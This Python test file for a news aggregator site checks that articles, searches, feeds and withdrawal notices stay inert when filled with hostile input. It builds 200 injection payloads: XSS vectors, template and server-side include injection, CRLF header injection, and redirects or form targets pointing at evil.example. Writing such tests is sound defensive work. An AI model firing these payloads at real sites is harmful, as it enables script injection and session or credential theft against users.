"""Text of publishers and editors is text on every page, whatever is in it.

Each payload stands in every field of an article at once. A page with it must be built of the same
elements with the same attributes as one with harmless words, and no address in it may be anything
but ours or one of the web.
"""

from __future__ import annotations

import itertools
import json
import shutil
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from aggregator.cli.text import Translator
from aggregator.config import Config
from aggregator.model import (
    Correction,
    CorrectionKind,
    Credit,
    Dateline,
    Image,
    Review,
    ReviewState,
    RightsBasis,
    Role,
)
from aggregator.portalconfig import Approval, PortalConfig
from aggregator.web.app import create_app
from aggregator.webconfig import WebConfig
from pipelines.attribute import attribute
from pipelines.store import store
from storage import channels, reviews, withdrawals
from storage.database import Database, open_database
from tests.aggregator.web.conftest import Ask, client
from tests.pipelines.builders import NOW, normalised, publisher

OPENINGS = ("", '"', "'", "'\">", "</p>", "</title>", "</script>", "-->", "]]>", "</textarea>")
ACTIONS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    " onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    "javascript:alert(1)//",
    "<style>@import'//evil.example'</style>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=q>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7*7 }}{% for x in config %}{{ x }}{% endfor %}",
    "\u202e<b>\u2028alert(1)\u2029</b>",
    "<!--#exec cmd=id --><?php echo 1 ?>",
    "\\u003cscript\\u003ealert(1)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "data:text/html,<script>alert(1)</script>",
    "\r\nSet-Cookie: a=1\r\n\r\n<script>alert(1)</script>",
)
PAYLOADS = tuple(a + b for a, b in itertools.product(OPENINGS, ACTIONS))
HARMLESS = 1
"""The number of the article with harmless words."""
WITHDRAWN = 100_000


def test_there_are_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) == 200


def filled(database: Database, number: int, words: str) -> None:
    about = publisher(name=f"p{number}", title=words, rights_basis=RightsBasis.GOVERNMENT)
    # The schema holds the credit line to the publisher's title.
    article = replace(
        normalised(url=f"https://contoh.example/berita/{number}/judul"),
        publisher=about.name,
        headline=words,
        summary=words,
        excerpt=words,
        body=(f"{number} {words}", words),
        body_html=f"<p>{number}</p>",
        credits=(Credit(name=words, role=Role.REPORTER),),
        dateline=Dateline(mark=words, place=words, raw=words, province=words),
        agency=words,
        section=words,
        tags=(words,),
        topics=(words,),
        image=Image(url="https://gambar.contoh.example/1.jpg", caption=words, credit=words),
        correction=Correction(kind=CorrectionKind.RALAT, sentence=words),
        published_raw=words,
    )
    with database.session() as session:
        channels.ensure(session, about, ())
    outcome = store(database, attribute(article, about), cause="channel")
    assert outcome.article_id == number, outcome
    review = Review(
        article_id=number,
        state=ReviewState.APPROVED,
        decided_at=NOW,
        editor=words,
        revision=1,
        headline=f"{words} {number}",
        excerpt=words,
    )
    with database.session() as session:
        reviews.decide(session, review, action="approve")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, migrated_file: Path) -> Iterator[Ask]:
    path = tmp_path_factory.mktemp("hostile") / "news.db"
    shutil.copy(migrated_file, path)
    with closing(open_database(f"sqlite:///{path}", writable=True)) as database:
        filled(database, HARMLESS, "kata biasa")
        for number, payload in enumerate(PAYLOADS, start=2):
            filled(database, number, payload)
    portal = PortalConfig(images=True, image_hosts=("contoh.example",), approval=Approval.NONE)
    config = Config(portal=portal, school="<b>SMK</b>", web=WebConfig(max_age=0, rate_limit=0))
    with closing(open_database(f"sqlite:///{path}")) as database:
        yield client(create_app(config, database, Translator))


class Skeleton(HTMLParser):
    """A page without its words: elements with the names of their attributes, and addresses."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[str, ...]]] = []
        self.addresses: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(name for name, _ in attrs)))
        self.addresses += [v or "" for name, v in attrs if name in ("href", "src", "action")]

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        assert decl == "DOCTYPE html"

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"a processing instruction: {data}")


def page_of(ask: Ask, path: str) -> Any:
    answer = ask(path, follow_redirects=True)
    assert answer.status_code == 200, answer.text
    assert "set-cookie" not in answer.headers
    return answer.text


def is_ours(address: str) -> bool:
    """Of this site, or the address of an original."""
    return address.startswith(("/", "#", "https://contoh.example/")) and address[:2] != "//"


def own_part(text: str) -> str:
    """Without the articles beside it, which have payloads of their own."""
    return text.partition('<section class="related"')[0]


@pytest.mark.parametrize("number", range(2, len(PAYLOADS) + 2))
def test_an_articles_page_is_built_like_any_other(hostile: Ask, number: int) -> None:
    expected = Skeleton(own_part(page_of(hostile, f"/berita/{HARMLESS}")))
    text = page_of(hostile, f"/berita/{number}")
    found = Skeleton(own_part(text))
    assert found.elements == expected.elements
    assert all(map(is_ours, Skeleton(text).addresses))
    data = text.partition('<script type="application/ld+json">')[2].partition("</script>")[0]
    assert json.loads(data)["isBasedOn"]["url"] == f"https://contoh.example/berita/{number}/judul"


def test_lists_and_searches_are_built_like_any_other(hostile: Ask) -> None:
    paths = ["/", "/cari?q=alert", "/topik", "/penerbit", "/tempat"]
    known = {
        ("mark", ()),
        *itertools.chain.from_iterable(
            Skeleton(page_of(hostile, path)).elements
            for path in (f"/berita/{HARMLESS}", "/cari?q=biasa", "/topik")
        ),
    }
    for path in paths:
        page = path
        while page:
            text = page_of(hostile, page)
            found = Skeleton(text)
            assert set(found.elements) - known <= SOME, page
            assert all(map(is_ours, found.addresses))
            page = text.partition('rel="next" href="')[2].partition('"')[0].replace("&amp;", "&")


SOME = {("nav", ("class", "aria-label")), ("a", ("rel", "href")), ("div", ("class",))}
"""What lists have and the harmless pages do not."""


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_asked_is_text(hostile: Ask, payload: str) -> None:
    found = Skeleton(hostile("/cari", params={"q": payload}).text)
    assert all(map(is_ours, found.addresses))
    assert {tag for tag, _ in found.elements}.isdisjoint({"script", "iframe", "style", "base"})


@pytest.mark.parametrize("path", ["/feed.rss", "/feed.atom", "/sitemap-2026-07.xml"])
def test_xml_is_well_formed(hostile: Ask, path: str) -> None:
    separator = "?limit=100" if "feed" in path else ""
    tree = etree.fromstring(hostile(path + separator).content)
    names = {etree.QName(element).localname for element in tree.iter()}
    assert names.isdisjoint({"script", "img", "svg", "iframe", "b"})


def test_a_notice_is_text(hostile: Ask, tmp_path: Path, migrated_file: Path) -> None:
    path = tmp_path / "news.db"
    shutil.copy(migrated_file, path)
    with closing(open_database(f"sqlite:///{path}", writable=True)) as database:
        for number, payload in enumerate(("kata", *PAYLOADS[::9]), start=1):
            filled(database, number, payload)
            with database.session() as session:
                later = NOW + timedelta(days=1)
                withdrawals.withdraw(session, number, at=later, reason=payload, by="Rini")
        config = Config(
            portal=PortalConfig(approval=Approval.NONE), web=WebConfig(rate_limit=0, max_age=0)
        )
        ask = client(create_app(config, database, Translator))
        pages = [ask(f"/berita/{n}") for n in range(1, len(PAYLOADS[::9]) + 2)]
    assert {page.status_code for page in pages} == {410}
    built = {tuple(Skeleton(page.text).elements) for page in pages}
    assert len(built) == 1
